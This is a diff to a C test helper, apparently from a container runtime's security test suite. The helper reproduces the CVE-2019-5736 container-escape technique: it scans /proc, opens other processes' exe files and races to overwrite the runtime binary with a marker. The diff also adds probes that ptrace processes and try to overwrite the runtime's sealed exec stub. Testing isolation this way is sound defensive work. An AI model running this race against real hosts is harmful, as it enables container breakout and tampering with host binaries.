@@ -6,10 +6,12 @@
  *   attacker exe-race SECONDS OUT
  *       For SECONDS, scan /proc for processes other than ourselves and try
  *       to open /proc/PID/exe read-only (CVE-2019-5736: the runtime's exec
- *       child is the runtime binary until it execs) and to PTRACE_ATTACH
- *       them.  A foreign exe (not a file of the rootfs) that opens is then
- *       reopened for writing through /proc/self/fd/N until it stops being
- *       busy (ETXTBSY) or the time is up, and overwritten with a marker.
+ *       child is the runtime binary until it execs) and to ptrace them.
+ *       husk's sealed exec stub (/memfd:husk-dmz) is counted apart: it may
+ *       be seen, not written (stub_write).  A foreign exe (not a file of
+ *       the rootfs) that opens is then reopened for writing through
+ *       /proc/self/fd/N until it stops being busy (ETXTBSY) or the time is
+ *       up, and overwritten with a marker.
  *   attacker exe-self OUT
  *       Try to reopen /proc/self/exe for writing.
  *   attacker module     init_module and finit_module of garbage (harmless:
@@ -72,6 +74,29 @@ static int is_known(const struct stat *st)
 
 static const char marker[] = "HUSK-ATTACK-OVERWROTE-THIS";
 
+/* fd (an opened /proc/PID/exe) is husk's sealed exec stub (a memfd) */
+static int is_stub(int fd)
+{
+  char l[64], t[256];
+  snprintf(l, sizeof l, "/proc/self/fd/%d", fd);
+  ssize_t n = readlink(l, t, sizeof t - 1);
+  t[n > 0 ? n : 0] = 0;
+  return strncmp(t, "/memfd:husk-dmz", 15) == 0;
+}
+
+/* pid runs the stub (its argv[0]) */
+static int cmdline_is_stub(pid_t pid)
+{
+  char p[64], t[16] = "";
+  snprintf(p, sizeof p, "/proc/%d/cmdline", (int)pid);
+  int fd = open(p, O_RDONLY | O_CLOEXEC);
+  if (fd < 0)
+    return 0;
+  ssize_t n = read(fd, t, sizeof t - 1);
+  close(fd);
+  return n >= 9 && strcmp(t, "husk-dmz") == 0;
+}
+
 /* Reopen fd for writing through /proc/self/fd until deadline; returns the
  * errno of the last attempt (0: the marker was written). */
 static int overwrite(int fd, double deadline)
@@ -105,8 +130,8 @@ static int cmd_exe_race(double seconds, const char *out_path)
   add_known("/bin/attacker");
   pid_t self = getpid();
   double deadline = now() + seconds;
-  long scans = 0, pids_seen = 0, opened = 0, foreign = 0, ptraced = 0;
-  int write_result = -1;
+  long scans = 0, pids_seen = 0, opened = 0, foreign = 0, ptraced = 0, stub_seen = 0;
+  int write_result = -1, stub_write = -1;
   char foreign_path[512] = "";
   while (now() < deadline) {
     DIR *d = opendir("/proc");
@@ -121,6 +146,13 @@ static int cmd_exe_race(double seconds, const char *out_path)
       char p[64];
       snprintf(p, sizeof p, "/proc/%d/exe", (int)pid);
       int fd = open(p, O_RDONLY | O_CLOEXEC);
+      if (fd >= 0 && is_stub(fd)) {
+        /* husk's sealed exec stub: try to overwrite it all the same */
+        stub_seen++;
+        stub_write = overwrite(fd, now() + 0.05);
+        close(fd);
+        fd = -1;
+      }
       if (fd >= 0) {
         opened++;
         struct stat st;
@@ -133,14 +165,18 @@ static int cmd_exe_race(double seconds, const char *out_path)
         }
         close(fd);
       }
-      if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
-        /* stopped: is it still the runtime (or one we cannot even look at)? */
+      /* SEIZE + INTERRUPT: no SIGSTOP left behind if it execs meanwhile */
+      if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
+        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
         waitpid(pid, NULL, __WALL);
+        /* stopped: is it still the runtime (or one we cannot even look at)? */
         int efd = open(p, O_RDONLY | O_CLOEXEC);
         int oe = efd < 0 ? errno : 0;
         struct stat st;
         /* ENOENT: it exited under us (a zombie has no exe) */
-        if ((efd >= 0 && fstat(efd, &st) == 0 && !is_known(&st)) || oe == EACCES || oe == EPERM)
+        /* (the stub makes itself non-dumpable first thing: EACCES then) */
+        if ((efd >= 0 && !is_stub(efd) && fstat(efd, &st) == 0 && !is_known(&st)) ||
+            ((oe == EACCES || oe == EPERM) && !cmdline_is_stub(pid)))
           ptraced++;
         if (efd >= 0)
           close(efd);
@@ -152,9 +188,10 @@ static int cmd_exe_race(double seconds, const char *out_path)
   }
   fprintf(out,
           "{\"scans\":%ld,\"pids_seen\":%ld,\"opened\":%ld,\"foreign\":%ld,\"ptraced\":%ld,"
-          "\"foreign_path\":\"%s\",\"write\":\"%s\"}\n",
+          "\"foreign_path\":\"%s\",\"write\":\"%s\",\"stub_seen\":%ld,\"stub_write\":\"%s\"}\n",
           scans, pids_seen, opened, foreign, ptraced, foreign_path,
-          write_result < 0 ? "not-tried" : ename(write_result));
+          write_result < 0 ? "not-tried" : ename(write_result), stub_seen,
+          stub_write < 0 ? "not-tried" : ename(stub_write));
   fclose(out);
   return 0;
 }
